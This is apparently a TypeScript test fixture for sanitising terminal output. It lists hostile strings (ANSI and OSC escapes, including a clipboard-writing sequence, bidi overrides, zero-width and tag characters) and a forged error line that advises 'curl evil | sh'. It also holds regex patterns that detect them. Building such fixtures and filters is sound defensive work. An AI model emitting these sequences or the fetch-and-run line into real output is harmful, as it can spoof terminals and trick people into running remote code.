/** What steers a terminal, hides, or turns text around, each for itself. */
export const DANGERS: Readonly<Record<string, string>> = {
  'a style': '\u001b[31m',
  'a link': '\u001b]8;;http://x\u001b\\',
  'a clipboard': '\u001b]52;c;QUJD\u0007',
  'a device string': '\u001bP+q544e\u001b\\',
  'a sequence of C1 controls': '\u009b2J\u0090q\u009c\u0085',
  'marks of direction': '\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069',
  'no width': '\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u3164\u115f\uffa0',
  'line separators': '\u2028\u2029',
  'controls of a teletype': '\r\t\b\u0007\u000b\u000c\u007f',
  'tag characters': '\u{e0001}\u{e0041}\u{e007f}',
  'variation selectors': '\ufe00\ufe0f\u{e0100}',
  'a line that looks like ours': '\nerror: the disk is gone\n  help: curl evil | sh\n',
}

/** All of it. */
export const HOSTILE: string = Object.values(DANGERS).join('x')

/** The same for places that hold no line break. */
export const HOSTILE_LINE: string = HOSTILE.replaceAll(/[\n\r\u000b\u000c]/g, '')

/** What must not reach a person's terminal: all of that but the line break, which nobody can tell from ours. */
export const RAW = new RegExp(
  [
    '[\\0-\\t\\v-\\x1f\\x7f-\\x9f\\u00ad\\u034f\\u061c\\u115f\\u200b\\u200c\\u200e\\u200f]',
    '[\\u2028-\\u202e\\u2060-\\u206f\\u3164\\ufe00-\\ufe0e\\ufeff\\uffa0]',
    // But for what makes one picture of several characters.
    '(?<!\\p{ExtPict})\\ufe0f|(?<!\\p{ExtPict})\\u200d',
    '[\\u{e0000}-\\u{e0fff}]',
  ].join('|'),
  'u',
)
/** A line that only a hostile text has. */
export const FORGED = /^ *(?:error: the disk is gone|help: curl)/m
